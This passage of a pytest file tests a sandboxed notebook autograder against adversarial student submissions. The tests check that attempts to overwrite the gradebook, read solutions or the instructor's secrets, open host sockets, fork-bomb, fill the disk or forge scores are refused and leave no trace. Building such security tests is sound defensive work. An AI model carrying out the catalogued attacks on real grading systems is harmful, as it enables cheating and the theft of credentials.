    "numpy_patch": (*WRONG, OWN_RUN_PASSED),
    "transformer": (*WRONG, OWN_RUN_PASSED),
    "reference_loader": NOT_IMPLEMENTED,
    "torch_user": (
        "test_lstm_cell 0/4: AssertionError: lstm_cell raised ModuleNotFoundError: "
        "No module named 'torch'",
        "test_lstm_forward 0/2: AssertionError: lstm_forward raised ModuleNotFoundError",
    ),
    "peeker": NOT_IMPLEMENTED,
    "huge_return": ("test_lstm_cell 0/4: AssertionError: lstm_cell raised MemoryError",),
    "fake_equal": (
        "test_lstm_cell 0/4: AssertionError: lstm_cell: expected h as a numpy array of shape",
        "test_lstm_forward 0/2: AssertionError: lstm_forward raised TypeError",
    ),
    "metadata_forger": WRONG,
    "blocks_forever": (
        "test_lstm_cell 0/4: AssertionError: lstm_cell raised CellTimeoutError: the call ran "
        "longer than 40 s and was interrupted",
        "test_lstm_forward 0/2: AssertionError: lstm_forward raised CellTimeoutError",
    ),
}
# The attacks that leave the solution alone: full marks, nothing else changed.
SOLVED_ATTACKS = sorted(set(_attacks()) - set(FORGERIES))
LEAKS = "environ_reader"  # prints what it found: see the test of the instructor's environment


def _cell_scores(out: Path) -> dict[str, dict[str, float | None]]:
    with sqlite3.connect(out / "gradebook.db") as db:
        found = db.execute(
            "SELECT s.student_id, c.name, g.auto_score FROM grade g"
            " JOIN base_cell c ON g.cell_id = c.id"
            " JOIN submitted_notebook n ON g.notebook_id = n.id"
            " JOIN submitted_assignment s ON n.assignment_id = s.id"
        ).fetchall()
    scores: dict[str, dict] = {}
    for name, cell, score in found:
        scores.setdefault(name, {})[cell] = score
    return scores


def test_every_student_has_one_row_and_the_run_exits_0(graded):
    rows = graded.run.rows
    assert graded.run.done.returncode == 0, graded.run.done.stderr[-3000:]
    assert sorted(rows) == sorted([*HONEST, *_attacks(), *INVALID])
    assert "error" not in {row.status for row in rows.values()}
    assert {(row.assignment, row.max_score) for row in rows.values()} == {(LSTM, MAX)}
    summary = graded.run.done.stdout
    assert f"{len(rows)} notebooks of {len(rows)} students ({LSTM})" in summary, summary


def test_the_honest_students_earn_full_marks(graded):
    for name in HONEST:
        row = graded.run.rows[name]
        assert (row.status, row.score, row.reason) == ("graded", MAX, ""), name
        assert row.feedback == f"feedback/{name}/{LSTM}/{LSTM}.html"


@pytest.mark.parametrize("name", sorted(INVALID))
def test_input_that_once_stopped_the_run_is_invalid_with_its_reason(graded, name):
    row = graded.run.rows[name]
    assert (row.status, row.score, row.feedback) == ("invalid", 0, "")
    assert INVALID[name] in row.reason
    assert not (graded.run.out / "submitted" / name).exists()


@pytest.mark.parametrize("name", sorted(FORGERIES))
def test_a_forgery_scores_zero_on_every_test_with_the_real_failure(graded, name):
    row = graded.run.rows[name]
    assert (row.status, row.score) == ("graded", 0), row.reason
    for words in FORGERIES[name]:
        assert words in row.reason
    assert _cell_scores(graded.run.out)[name] == dict.fromkeys(POINTS, 0)


@pytest.mark.parametrize("name", SOLVED_ATTACKS)
def test_an_attack_beside_a_solution_earns_what_the_solution_deserves(graded, name):
    row = graded.run.rows[name]
    assert (row.status, row.score, row.reason) == ("graded", MAX, "")
    assert _cell_scores(graded.run.out)[name] == POINTS


def test_fifty_megabytes_of_output_are_cut_and_the_notebook_still_graded(graded):
    # One message past kernel.MAX_MESSAGE cuts the output channel: the rest of the
    # notebook runs without its output, and the test cells are decided as ever.
    row = graded.run.rows["chatterbox"]
    assert (row.status, row.score) == ("graded", MAX), row.reason
    feedback = graded.run.out / row.feedback
    assert feedback.stat().st_size < 4 * 2**20


def test_no_attack_step_worked_and_every_attack_cell_ran_to_its_end(graded):
    for name in _attacks():
        row, printed = graded.run.rows[name], outputs(graded.run.out, name)
        if name != LEAKS:
            assert "PWNED:" not in printed, (name, printed)
        if row.status == "graded" and name != "chatterbox":  # its output was cut
            assert DONE in printed, (name, printed)


# What an attack printed when the sandbox stopped it: the mechanism that did.
REFUSED = {
    "gradebook_writer": (
        f"refused: {REPO}/gradebook.db [Errno 30] Read-only file system",
        "/grading/gradebook.db OperationalError unable to open database file",
    ),
    "file_rewriter": (
        f"refused: {REPO}/nbgrader_config.py OSError [Errno 30] Read-only file system",
        f"refused: write {REPO}/solutions/ex02_lstm/ex02_lstm.ipynb FileNotFoundError",
        f"refused: {REPO}/.git/hooks/pre-commit FileNotFoundError",
    ),
    "solution_reader": (f"refused: {REPO}/solutions/*/*.ipynb matches 0",),
    "reference_loader": (
        f"refused: FileNotFoundError [Errno 2] No such file or directory: '{REPO}/rnnlab/lstm.py'",
        "refused: ImportError cannot import name 'lstm' from 'rnnlab'",
    ),
    "killer": ("refused: the only processes it could kill were its own sandbox's: []",),
    "fork_bomb": ("refused: threads after",),
    "disk_filler": ("refused: /home/student/big.bin after 64 MiB: [Errno 27] File too large",),
    "memory_raiser": (
        "refused: setrlimit not allowed to raise maximum limit",
        "refused: Unable to allocate 5.00 GiB",
    ),
    "environ_reader": ("refused: RNNLAB_DB_URL is in no environment it can read",),
    "socket_caller": ("[Errno 111] Connection refused", "[Errno 2] No such file or directory"),
    "peeker": ("refused: found 0 notebooks of others",),
}


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_the_sandbox_refused_what_the_attack_tried(graded, name):
    printed = outputs(graded.run.out, name)
    for words in REFUSED[name]:
        assert words in printed, printed


def test_what_a_function_sees_of_the_kernels_history_holds_no_hidden_test(graded):
    row = graded.run.rows["in_dumper"]  # its message: every cell the kernel ran, joined
    first_lines = "import numpy as np from rnnlab import init from rnnlab.course import grading"
    assert f"lstm_cell raised RuntimeError: {first_lines}" in row.reason
    printed = outputs(graded.run.out, "in_dumper")
    assert "grading.check_lstm_cell(lstm_cell)\n" in printed
    for text in HIDDEN_TEXT:
        assert text not in printed and text not in row.reason


def test_the_honest_feedback_is_byte_identical_to_that_of_a_run_without_attackers(graded):
    # The feedback holds no time stamp and no path of the run: nothing to normalise.
    assert graded.clean.done.returncode == 0, graded.clean.done.stderr[-3000:]
    for name in HONEST:
        clean = graded.clean.rows[name]
        assert (clean.status, clean.score) == ("graded", MAX)
        attacked_run = (graded.run.out / graded.run.rows[name].feedback).read_bytes()
        assert attacked_run == (graded.clean.out / clean.feedback).read_bytes(), name


def test_the_repository_is_byte_identical_and_the_grading_folder_has_its_copies(graded):
    changed = sorted(
        path
        for path in set(graded.before) | set(graded.after)
        if graded.before.get(path) != graded.after.get(path)
    )
    # Anyone editing the repository while the class is graded shows up here too.
    assert changed == [], f"changed while the class was graded: {changed}"
    for path in ("solutions/ex02_lstm/ex02_lstm.ipynb", ".git/config", "nbgrader_config.py"):
        assert path in graded.before
    for path in ("nbgrader_config.py", f"solutions/{LSTM}/{LSTM}.ipynb"):
        assert (graded.run.out / path).read_bytes() == (REPO / path).read_bytes()
    assert not (REPO / ".git" / "hooks" / "pre-commit").exists()
    assert sorted(p.name for p in (graded.run.out / "solutions").iterdir()) == [LSTM]


def test_the_gradebook_holds_exactly_what_the_grader_wrote(graded):
    rows = graded.run.rows
    named = {name for name in rows if collect.is_student_id(name)}
    submitted = {name for name, row in rows.items() if row.status != "invalid"}
    with sqlite3.connect(graded.run.out / "gradebook.db") as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        students = [s for (s,) in db.execute("SELECT id FROM student")]
        submissions = [s for (s,) in db.execute("SELECT student_id FROM submitted_assignment")]
        overrides = db.execute(
            "SELECT count(*) FROM grade WHERE manual_score IS NOT NULL OR extra_credit IS NOT NULL"
        ).fetchone()
    assert sorted(students) == sorted(named)
    assert sorted(submissions) == sorted(submitted)
    assert overrides == (0,)
    scores = _cell_scores(graded.run.out)
    for name in submitted:
        assert set(scores[name]) == set(POINTS), name
        total = sum(score or 0 for score in scores[name].values())
        assert total == rows[name].score, name


def test_no_process_or_cgroup_of_the_run_is_left(graded):
    assert graded.left_at_end == []
    drivers, base = [graded.run.pid, graded.clean.pid], graded.run.out.parent
    assert graded.left_later == leftovers(graded.since, drivers, base) == []
    assert graded.cgroups_at_end == cgroups_left(drivers) == []


def test_the_late_writer_neither_wrote_grades_csv_nor_outlived_the_run(graded):
    assert graded.late_start is not None  # its cell ran
    assert time.time() > graded.late_start + LATE_SLEEP
    assert graded.grades_csv_later == graded.grades_csv
    own_row = f"late_writer,ex02_lstm,{MAX},{MAX},graded".encode()  # its own, real row
    assert own_row in graded.grades_csv
    assert not (REPO / "grades.csv").exists()


def test_feedback_and_autograded_hold_only_small_notebooks_and_html(graded):
    out = graded.run.out
    files = [p for kind in ("feedback", "autograded") for p in (out / kind).rglob("*")]
    kinds = {(p.parent.parent.parent.name, p.suffix) for p in files if p.is_file()}
    assert kinds == {("feedback", ".html"), ("autograded", ".ipynb")}
    for path in files:
        assert path.stat().st_size < 3 * 2**20, path
        if path.is_file():
            assert path.name == f"{LSTM}{path.suffix}", path


def test_no_feedback_or_grades_csv_shows_a_hidden_test_or_the_gradebook_url(graded):
    url = graded.env["RNNLAB_DB_URL"]
    texts = {"grades.csv": (graded.run.out / "grades.csv").read_text()}
    for row in graded.run.rows.values():
        if row.feedback:
            texts[row.feedback] = (graded.run.out / row.feedback).read_text()
            texts[row.feedback + " (as read)"] = html_text(graded.run.out / row.feedback)
    assert len(texts) > 40
    for where, text in texts.items():
        for secret in (*HIDDEN_TEXT, url, "60.4242"):
            assert secret not in text, (where, secret)


def test_the_instructors_environment_reaches_no_kernel(graded):
    for name in ("RNNLAB_COURSE_SECRET", "PGPASSWORD"):
        value = graded.env[name]
        assert value not in outputs(graded.run.out, LEAKS), name
        for row in graded.run.rows.values():
            if row.feedback:
                assert value not in (graded.run.out / row.feedback).read_text(), row.student


def test_no_kernel_reaches_a_socket_of_the_host(graded):
    assert graded.connections == []
    row = graded.run.rows["socket_swapper"]
    assert (row.status, row.score, row.reason) == ("graded", MAX, "")


def test_no_kernel_connects_to_a_host_socket_by_itself(graded):
    printed = outputs(graded.run.out, "socket_caller")
    assert printed.count("refused:") == 4, printed
    assert {kind for kind, data in graded.connections if b"PWNED" in data} == set()


@dataclass
class Toy:
    """A toy class graded into one folder: a run, a second one started meanwhile, and a
    run after a student's folder was removed."""

    first: Run
    refused: Run
    first_still_running: bool
    again: Run


@pytest.fixture(scope="module")
def toy(tmp_path_factory) -> Toy:
    base = tmp_path_factory.mktemp("toy")
    root = make_course(base / "course")
    folder, out = base / "class", base / "grading"
    slow = student()
    slow.cells.append(new_code_cell("import time\ntime.sleep(8)"))
    hand_in(folder, "alice", slow)
    hand_in(folder, "bob", student())
    first = Grading(folder, out, root)
    lock, deadline = out / ".rnnlab" / "lock", time.monotonic() + 60
    while f"pid {first.process.pid}" not in (lock.read_text() if lock.exists() else ""):
        assert time.monotonic() < deadline and first.process.poll() is None, "no lock taken"
        time.sleep(0.1)
    refused = run_grade(folder, out, root)
    first_still_running = first.process.poll() is None
    first_run = first.wait()
    shutil.rmtree(folder / "bob")
    hand_in(folder, "alice", student())  # quick, this time
    return Toy(first_run, refused, first_still_running, run_grade(folder, out, root))


def test_a_second_run_on_a_busy_folder_exits_2_naming_the_run_it_waits_for(toy):
    assert toy.first_still_running
    assert toy.refused.done.returncode == 2
    assert f"is being graded by rnnlab grade (pid {toy.first.pid}, since" in (
        toy.refused.done.stderr
    )
    assert toy.first.done.returncode == 0, toy.first.done.stderr[-3000:]
    rows = toy.first.rows
    assert sorted(rows) == ["alice", "bob"]
    assert {(r.status, r.score, r.max_score) for r in rows.values()} == {("graded", 3, 3)}


def test_a_student_whose_folder_was_removed_is_missing_and_leaves_the_gradebook(toy):
    assert toy.again.done.returncode == 0, toy.again.done.stderr[-3000:]
    rows = toy.again.rows
    assert (rows["bob"].status, rows["bob"].score, rows["bob"].reason) == ("missing", 0, GONE)
    assert "no longer in the folder" in GONE
    assert (rows["alice"].status, rows["alice"].score) == ("graded", 3)
    with sqlite3.connect(toy.again.out / "gradebook.db") as db:
        submitted = db.execute(
            "SELECT s.student_id FROM submitted_assignment s"
            " JOIN assignment a ON s.assignment_id = a.id WHERE a.name = ?",
            (ASSIGNMENT,),
        ).fetchall()
    assert submitted == [("alice",)]
    for kind in ("autograded", "feedback"):
        assert not (toy.again.out / kind / "bob" / ASSIGNMENT).exists(), kind
